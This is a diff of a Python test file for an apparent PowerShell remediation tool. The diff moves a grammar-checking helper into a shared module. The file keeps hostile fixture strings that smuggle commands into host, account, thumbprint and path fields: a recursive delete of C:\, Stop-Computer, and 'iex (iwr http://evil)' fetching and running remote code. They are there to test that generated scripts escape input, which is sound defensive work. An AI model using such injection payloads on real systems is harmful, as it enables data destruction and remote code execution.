@@ -13,31 +13,19 @@ import re
 from pathlib import Path
 from typing import Any
 
-from tree_sitter_language_pack import get_parser
-
 from scaleguard.collectors.agent import PAYLOAD_SEPARATOR, bootstrap_command, split_payload
 from scaleguard.collectors.winrm.channel import CommandResult
 from scaleguard.remediators.apply import Executor
 from scaleguard.remediators.journal import Journal
 from scaleguard.remediators.model import ACTION_NAMES, Plan, Step, Unit
 from scaleguard.remediators.transport import AgentClient, actions_script
+from tests.powershell_grammar import grammar_problems
 
 HOSTILE_HOST = "m1\"; Remove-Item -Recurse C:\\ ; $(Stop-Computer) `whoami` '"
 HOSTILE_ACCOUNT = "CONTOSO\\svc'; iex (iwr http://evil) #"
 HOSTILE_THUMB = "AB' + $(Invoke-Expression 'calc') + 'CD"
 HOSTILE_PATH = "C:\\Program Files\\$(calc)\\Binn\\WorkerSettings.config"
 
-
-def grammar_problems(source: str) -> list[str]:
-    tree = get_parser("powershell").parse(source.encode("utf-8"))
-    problems: list[str] = []
-    stack = [tree.root_node]
-    while stack:
-        node = stack.pop()
-        if node.type == "ERROR" or node.is_missing:
-            problems.append(f"{node.type} at {node.start_point[0] + 1}:{node.start_point[1] + 1}")
-        stack.extend(node.children)
-    return problems
 
 
 def test_actions_script_parses_without_errors() -> None:
